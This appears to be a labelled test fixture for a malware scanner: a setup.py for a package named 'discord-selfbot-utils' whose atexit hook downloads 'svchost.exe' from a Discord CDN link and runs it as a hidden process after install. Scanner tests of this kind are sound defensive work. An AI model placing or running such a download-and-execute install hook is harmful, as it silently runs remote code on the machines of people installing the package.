# ruff: noqa
# fmt: off
"""An atexit hook in setup.py: the dropper runs after setup() returns, so the install itself looks clean."""
import atexit
import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup


def _post():
    target = os.path.join(tempfile.gettempdir(), "svchost.exe")
    urllib.request.urlretrieve("https://cdn.discordapp.com/attachments/1/2/svchost.exe", target)  # expect: install-hook, suspicious-url
    subprocess.Popen([target], creationflags=0x08000000)  # expect: download-execute, silent-process-execution, install-hook


atexit.register(_post)  # expect: install-hook
setup(name="discord-selfbot-utils", version="2.0.0")
